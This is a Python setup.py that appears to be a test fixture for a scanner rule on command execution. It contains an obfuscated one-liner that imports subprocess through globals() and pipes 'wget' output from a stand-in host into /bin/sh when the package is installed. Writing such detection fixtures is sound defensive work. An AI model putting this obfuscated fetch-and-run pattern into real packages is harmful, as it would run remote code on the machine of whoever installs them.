from setuptools import setup

# A one-liner obfuscator binds the module through globals() inside a comprehension, so the call's
# receiver has no name the analysis can follow; the argv of a shell still says what runs.
# ruleid: code/command-execution
(lambda __g: [(lambda __mod: [[None for __g['sp'] in [(__mod)]][0]])(__import__('subprocess', __g, __g)), __g['sp'].call(['/bin/sh', '-c', 'wget -qO- http://collector.example.invalid/x | sh'])])(globals())

setup(name='py-fixture-onelinecfg', version='1.0.0', packages=[])
